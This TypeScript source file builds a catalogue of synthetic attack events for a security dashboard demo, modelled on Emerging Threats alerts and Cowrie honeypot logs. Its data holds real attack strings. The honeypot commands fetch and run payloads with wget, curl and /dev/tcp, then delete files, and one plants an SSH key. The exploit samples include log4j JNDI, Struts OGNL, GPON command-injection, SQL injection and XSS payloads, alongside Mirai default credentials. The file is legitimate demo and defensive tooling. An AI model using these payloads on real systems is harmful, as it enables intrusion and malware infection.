/**
 * The demo's attack catalogue: rule names, ports and details modelled on what Emerging Threats
 * rules, Cowrie, sshd and kernel firewall logs really report. Weights give the category mix
 * seen on an internet-facing sensor: mostly scans and brute force, fewer exploits, rare DoS.
 * Details deliberately include attacker text with quotes, angle brackets and ampersands,
 * because real attackers send those and the page must escape them.
 */
import type { Category, Severity } from '../../../event/schema.js';
import type { DemoProduct } from './networks.js';

/** A deterministic random source: uniform in [0, 1). */
export type Rng = () => number;

export function pick<T>(rng: Rng, items: readonly T[]): T {
  return items[Math.floor(rng() * items.length)];
}

export function int(rng: Rng, min: number, max: number): number {
  return min + Math.floor(rng() * (max - min + 1));
}

export interface ScenarioOutput {
  rule: { id?: string; name: string; rev?: number };
  severity: Severity;
  transport: string;
  service?: string;
  port: number;
  action?: 'alert' | 'blocked' | 'allowed';
  details?: Record<string, string | number>;
}

export interface Scenario {
  category: Category;
  /** Relative frequency among all scenarios. */
  weight: number;
  products: readonly DemoProduct[];
  /** Source network role this scenario prefers (Tor exits for Tor policy alerts). */
  role?: 'tor' | 'scanner';
  build(rng: Rng, srcIp: string): ScenarioOutput;
}

const et = (sid: number, name: string, rev = 3) => ({ id: `1:${sid}:${rev}`, name, rev });

export const USERNAMES = ['root', 'admin', 'ubuntu', 'test', 'user', 'oracle', 'postgres', 'git', 'pi', 'ftpuser', 'support', 'guest', 'deploy', 'hadoop', 'minecraft', 'sa', 'Administrator', 'ec2-user', 'debian', 'nagios', "admin'--", '<script>'];
export const PASSWORDS = ['123456', 'password', 'admin', 'root', '12345678', 'qwerty', '1qaz2wsx', 'P@ssw0rd', 'toor', 'raspberry', 'changeme', 'admin123', 'Passw0rd!', '111111', 'abc123', 'welcome1', 'a&b<c>"d"', 'huawei@123'];
const MIRAI_CREDS: readonly [string, string][] = [['root', 'xc3511'], ['root', 'vizxv'], ['admin', 'admin'], ['root', '888888'], ['root', 'xmhdipc'], ['root', 'default'], ['root', 'juantech'], ['support', 'support'], ['root', '7ujMko0admin'], ['admin', '1234']];
const RECON_COMMANDS = [
  'uname -a',
  'cat /proc/cpuinfo | grep name | wc -l',
  "echo -e '\\x6F\\x6B'",
  'cat /etc/passwd',
  'free -m | grep Mem | awk \'{print $2 ,$3, $4, $5, $6, $7}\'',
  'ls -lh $(which ls)',
  'crontab -l',
  'w; whoami; id',
  "lscpu | grep Model",
  'cat /proc/version && nproc',
];
const MALWARE_COMMANDS = [
  'cd /tmp || cd /var/run || cd /mnt; wget http://{ip}/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf *',
  'cd /tmp; curl -O http://{ip}/x86_64 && chmod +x x86_64 && ./x86_64 ssh.root',
  '/bin/busybox wget http://{ip}:8080/mips -O- > .d; chmod 777 .d; ./.d telnet.mips',
  'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC mdrfckr" >> ~/.ssh/authorized_keys && chattr +ia ~/.ssh',
  'nohup bash -c "exec 6<>/dev/tcp/{ip}/60106 && echo -n \'GET /linux\' >&6 && cat 0<&6 > /tmp/kdevtmpfsi" &',
];
const WEB_PROBES = ['/.env', '/.git/config', '/wp-login.php', '/phpmyadmin/index.php', '/actuator/env', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/cgi-bin/luci/;stok=/locale', '/server-status', '/owa/auth/logon.aspx', '/boaform/admin/formLogin'];
const USER_AGENTS = ['Mozilla/5.0 zgrab/0.x', 'curl/7.88.1', 'python-requests/2.31.0', 'Go-http-client/1.1', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Safari/537.36', 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 'Hello, world'];
const MALWARE_NAMES = ['Mirai', 'Gafgyt', 'Mozi', 'XorDDoS', 'Kinsing', 'RedTail', 'Tsunami'];
const ARCHES = ['arm7', 'mips', 'mpsl', 'x86', 'arm5', 'sh4'];

function hex(rng: Rng, n: number): string {
  let s = '';
  for (let i = 0; i < n; i++) s += '0123456789abcdef'[Math.floor(rng() * 16)];
  return s;
}

function c2(rng: Rng): string {
  return `${int(rng, 45, 223)}.${int(rng, 1, 254)}.${int(rng, 0, 255)}.${int(rng, 1, 254)}`;
}

export const SCENARIOS: readonly Scenario[] = [
  // --- scan ---
  ...([
    [2010935, 'ET SCAN Suspicious inbound to MSSQL port 1433', 1433, 'mssql'],
    [2010937, 'ET SCAN Suspicious inbound to mySQL port 3306', 3306, 'mysql'],
    [2010939, 'ET SCAN Suspicious inbound to PostgreSQL port 5432', 5432, 'postgresql'],
    [2010936, 'ET SCAN Suspicious inbound to Oracle SQL port 1521', 1521, 'oracle'],
    [2001219, 'ET SCAN Potential SSH Scan', 22, 'ssh'],
    [2002911, 'ET SCAN Potential VNC Scan 5900-5920', 5900, 'vnc'],
    [2023753, 'ET SCAN MS Terminal Server Traffic on Non-standard Port', 3390, 'rdp'],
    [2001569, 'ET SCAN Behavioral Unusual Port 445 traffic Potential Scan or Infection', 445, 'smb'],
  ] as const).map(([sid, name, port, service]): Scenario => ({
    category: 'scan', weight: 3.5, products: ['suricata'], role: 'scanner',
    build: (rng) => ({ rule: et(sid, name), severity: rng() < 0.8 ? 'medium' : 'low', transport: 'tcp', service, port }),
  })),
  {
    category: 'scan', weight: 3, products: ['suricata'], role: 'scanner',
    build: (rng) => ({ rule: et(2009582, 'ET SCAN NMAP -sS window 1024'), severity: 'low', transport: 'tcp', port: pick(rng, [23, 80, 443, 2323, 8080, 8443, 6379, 9200, 27017]) }),
  },
  {
    category: 'scan', weight: 2, products: ['suricata'],
    build: () => ({ rule: et(2008578, 'ET SCAN Sipvicious Scan'), severity: 'medium', transport: 'udp', service: 'sip', port: 5060, details: { user_agent: 'friendly-scanner' } }),
  },
  {
    category: 'scan', weight: 6, products: ['iptables'],
    build: (rng) => {
      const port = pick(rng, [22, 23, 80, 443, 445, 3389, 5555, 8080, 8291, 37215, 52869]);
      return { rule: { name: '[UFW BLOCK]' }, severity: 'low', transport: 'tcp', port, action: 'blocked', details: { flags: 'SYN', ttl: int(rng, 40, 245) } };
    },
  },
  // --- bruteforce ---
  {
    category: 'bruteforce', weight: 8, products: ['cowrie'],
    build: (rng) => ({ rule: { name: 'cowrie.login.failed' }, severity: 'medium', transport: 'tcp', service: 'ssh', port: 22, details: { username: pick(rng, USERNAMES), password: pick(rng, PASSWORDS), session: hex(rng, 12) } }),
  },
  {
    category: 'bruteforce', weight: 5, products: ['cowrie'],
    build: (rng) => {
      const [u, p] = pick(rng, MIRAI_CREDS);
      return { rule: { name: 'cowrie.login.failed' }, severity: 'medium', transport: 'tcp', service: 'telnet', port: 23, details: { username: u, password: p, session: hex(rng, 12), note: 'Mirai telnet credential list' } };
    },
  },
  {
    category: 'bruteforce', weight: 1.5, products: ['cowrie'],
    build: (rng) => ({ rule: { name: 'cowrie.login.success' }, severity: 'high', transport: 'tcp', service: 'ssh', port: 22, details: { username: 'root', password: pick(rng, PASSWORDS), session: hex(rng, 12) } }),
  },
  {
    category: 'bruteforce', weight: 6, products: ['sshd'],
    build: (rng) => {
      const user = pick(rng, USERNAMES);
      return { rule: { name: 'sshd: Failed password' }, severity: 'medium', transport: 'tcp', service: 'ssh', port: 22, details: { username: user, message: `Failed password for invalid user ${user}` } };
    },
  },
  {
    category: 'bruteforce', weight: 2, products: ['suricata'],
    build: () => ({ rule: et(2006546, 'ET SCAN LibSSH Based Frequent SSH Connections Likely BruteForce Attack', 7), severity: 'high', transport: 'tcp', service: 'ssh', port: 22 }),
  },
  {
    category: 'bruteforce', weight: 1.5, products: ['suricata'],
    build: (rng) => ({ rule: et(2023019, 'ET TELNET busybox MIRAI hackers - Possible Brute Force Attack'), severity: 'high', transport: 'tcp', service: 'telnet', port: pick(rng, [23, 2323]) }),
  },
  // --- exploit ---
  {
    category: 'exploit', weight: 3, products: ['suricata'],
    build: (rng, src) => ({
      rule: et(2034647, 'ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)', 2), severity: 'critical', transport: 'tcp', service: 'http', port: pick(rng, [80, 8080, 443]),
      details: { cve: 'CVE-2021-44228', url: '/?x=${jndi:ldap://' + src + ':1389/Exploit}', user_agent: '${jndi:ldap://' + c2(rng) + '/a}' },
    }),
  },
  {
    category: 'exploit', weight: 2.5, products: ['suricata'],
    build: () => ({ rule: et(2024218, 'ET EXPLOIT Possible ETERNALBLUE Probe MS17-010 (MSF style)', 2), severity: 'critical', transport: 'tcp', service: 'smb', port: 445, details: { cve: 'CVE-2017-0144' } }),
  },
  {
    category: 'exploit', weight: 1.5, products: ['suricata'],
    build: (rng) => ({ rule: et(2024043, 'ET EXPLOIT Apache Struts OGNL Expression Injection (CVE-2017-5638)'), severity: 'critical', transport: 'tcp', service: 'http', port: 8080, details: { cve: 'CVE-2017-5638', content_type: "%{(#_='multipart/form-data').(#cmd='wget http://" + c2(rng) + "/s.sh')}" } }),
  },
  {
    category: 'exploit', weight: 1.5, products: ['suricata'],
    build: () => ({ rule: et(2027063, 'ET EXPLOIT Realtek SDK Miniigd UPnP SOAP Command Execution CVE-2014-8361 - Inbound', 2), severity: 'high', transport: 'tcp', service: 'upnp', port: 52869, details: { cve: 'CVE-2014-8361', url: '/picsdesc.xml' } }),
  },
  {
    category: 'exploit', weight: 1.5, products: ['suricata'],
    build: (rng) => ({ rule: et(2025283, 'ET EXPLOIT GPON Home Gateway Remote Code Execution (CVE-2018-10561)'), severity: 'high', transport: 'tcp', service: 'http', port: 8080, details: { cve: 'CVE-2018-10561', url: '/GponForm/diag_Form?images/', body: `XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=\`wget+http://${c2(rng)}/gpon+-O+->/tmp/x\`;sh+/tmp/x` } }),
  },
  {
    category: 'exploit', weight: 1, products: ['suricata'],
    build: () => ({ rule: et(2036546, 'ET EXPLOIT F5 BIG-IP iControl REST Authentication Bypass (CVE-2022-1388) M1', 2), severity: 'critical', transport: 'tcp', service: 'https', port: 443, details: { cve: 'CVE-2022-1388', url: '/mgmt/tm/util/bash' } }),
  },
  {
    category: 'exploit', weight: 1, products: ['suricata'],
    build: () => ({ rule: et(2029206, 'ET EXPLOIT Citrix Application Delivery Controller Arbitrary Code Execution Attempt (CVE-2019-19781)'), severity: 'critical', transport: 'tcp', service: 'https', port: 443, details: { cve: 'CVE-2019-19781', url: '/vpn/../vpns/cfg/smb.conf' } }),
  },
  {
    category: 'exploit', weight: 2, products: ['suricata'],
    build: (rng) => ({ rule: et(2006446, 'ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT', 14), severity: 'high', transport: 'tcp', service: 'http', port: 80, details: { url: `/product.php?id=${int(rng, 1, 999)}' UNION SELECT 1,username,password FROM users-- -&cat=<b>`, user_agent: 'sqlmap/1.7.2#stable (https://sqlmap.org)' } }),
  },
  {
    category: 'exploit', weight: 1.5, products: ['suricata'],
    build: () => ({ rule: et(2009714, 'ET WEB_SERVER Script tag in URI Possible Cross Site Scripting Attempt', 9), severity: 'medium', transport: 'tcp', service: 'http', port: 80, details: { url: '/search?q=<script>alert(document.cookie)</script>&lang="en"' } }),
  },
  {
    category: 'exploit', weight: 1, products: ['suricata'],
    build: () => ({ rule: et(2026731, 'ET WEB_SERVER ThinkPHP RCE Exploitation Attempt'), severity: 'high', transport: 'tcp', service: 'http', port: 80, details: { url: '/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP' } }),
  },
  // --- malware ---
  {
    category: 'malware', weight: 3, products: ['cowrie'],
    build: (rng) => {
      const host = c2(rng);
      const telnet = rng() < 0.35;
      return { rule: { name: 'cowrie.command.input' }, severity: 'high', transport: 'tcp', service: telnet ? 'telnet' : 'ssh', port: telnet ? 23 : 22, details: { input: pick(rng, MALWARE_COMMANDS).replaceAll('{ip}', host), session: hex(rng, 12) } };
    },
  },
  {
    category: 'malware', weight: 2, products: ['cowrie'],
    build: (rng) => {
      const arch = pick(rng, ARCHES);
      return { rule: { name: 'cowrie.session.file_download' }, severity: 'critical', transport: 'tcp', service: 'ssh', port: 22, details: { url: `http://${c2(rng)}/bins/${pick(rng, ['mirai', 'sora', 'x', 'hoho'])}.${arch}`, shasum: hex(rng, 64), session: hex(rng, 12) } };
    },
  },
  {
    category: 'malware', weight: 2, products: ['suricata'],
    build: (rng) => {
      const fam = pick(rng, MALWARE_NAMES);
      return { rule: et(2030490, `ET MALWARE ${fam} Variant CnC Checkin`, 1), severity: 'high', transport: 'tcp', port: pick(rng, [23, 80, 6667, 3074, 48101]), details: { malware: fam } };
    },
  },
  // --- recon ---
  {
    category: 'recon', weight: 3, products: ['cowrie'],
    build: (rng) => ({ rule: { name: 'cowrie.command.input' }, severity: 'medium', transport: 'tcp', service: 'ssh', port: 22, details: { input: pick(rng, RECON_COMMANDS), session: hex(rng, 12) } }),
  },
  {
    category: 'recon', weight: 3, products: ['suricata'],
    build: (rng) => ({ rule: et(2011915, 'ET SCAN Possible Web Application Probe (sensitive file)'), severity: 'low', transport: 'tcp', service: 'http', port: pick(rng, [80, 8080, 443]), details: { url: pick(rng, WEB_PROBES), user_agent: pick(rng, USER_AGENTS) } }),
  },
  {
    category: 'recon', weight: 1, products: ['suricata'],
    build: () => ({ rule: et(2002677, 'ET SCAN Nikto Web App Scan in Progress', 14), severity: 'medium', transport: 'tcp', service: 'http', port: 80, details: { user_agent: 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)' } }),
  },
  // --- policy ---
  {
    category: 'policy', weight: 2, products: ['suricata'], role: 'tor',
    build: (rng) => ({ rule: et(2522150, `ET TOR Known Tor Exit Node Traffic group ${int(rng, 1, 180)}`, 5000), severity: 'low', transport: 'tcp', port: pick(rng, [443, 80, 22]) }),
  },
  {
    category: 'policy', weight: 1.5, products: ['suricata'],
    build: (rng) => ({ rule: et(2013031, 'ET USER_AGENTS Python-urllib/ Suspicious User Agent', 5), severity: 'low', transport: 'tcp', service: 'http', port: 80, details: { user_agent: `Python-urllib/3.${int(rng, 6, 12)}` } }),
  },
  {
    category: 'policy', weight: 1, products: ['suricata'],
    build: () => ({ rule: et(2001984, 'ET POLICY SSH session in progress on Unusual Port', 8), severity: 'low', transport: 'tcp', service: 'ssh', port: 2222 }),
  },
  // --- dos ---
  {
    category: 'dos', weight: 1, products: ['suricata'],
    build: () => ({ rule: et(2019010, 'ET DOS Possible NTP DDoS Inbound Frequent Un-Authed MON_LIST Requests IMPL 0x03', 2), severity: 'high', transport: 'udp', service: 'ntp', port: 123 }),
  },
  {
    category: 'dos', weight: 0.8, products: ['suricata'],
    build: () => ({ rule: et(2025401, 'ET DOS Possible Memcached DDoS Amplification Query (set)'), severity: 'high', transport: 'udp', service: 'memcached', port: 11211 }),
  },
  {
    category: 'dos', weight: 0.6, products: ['suricata'],
    build: () => ({ rule: et(2019102, 'ET DOS Possible SSDP Amplification Scan in Progress', 1), severity: 'medium', transport: 'udp', service: 'ssdp', port: 1900 }),
  },
  {
    category: 'dos', weight: 0.4, products: ['iptables'],
    build: () => ({ rule: { name: '[UFW LIMIT BLOCK]' }, severity: 'medium', transport: 'tcp', service: 'http', port: 443, action: 'blocked', details: { flags: 'SYN' } }),
  },
  // --- other ---
  {
    category: 'other', weight: 2, products: ['suricata'],
    build: () => ({ rule: et(2100366, 'GPL ICMP_INFO PING *NIX', 8), severity: 'low', transport: 'icmp', port: 0 }),
  },
  {
    category: 'other', weight: 1.5, products: ['suricata'],
    build: () => ({ rule: { id: '1:2210045:2', name: 'SURICATA STREAM Packet with invalid ack', rev: 2 }, severity: 'low', transport: 'tcp', port: 443 }),
  },
];

/** Intel markers are built by the generator: source = the indicator, no target. */
export const INTEL_FEEDS = ['ipsum', 'feodotracker', 'blocklist.de'] as const;

/** Share of all demo events that are intel indicators. */
export const INTEL_SHARE = 0.03;
/** Share of all demo events that come in brute-force bursts from one repeating attacker. */
export const BURST_SHARE = 0.15;
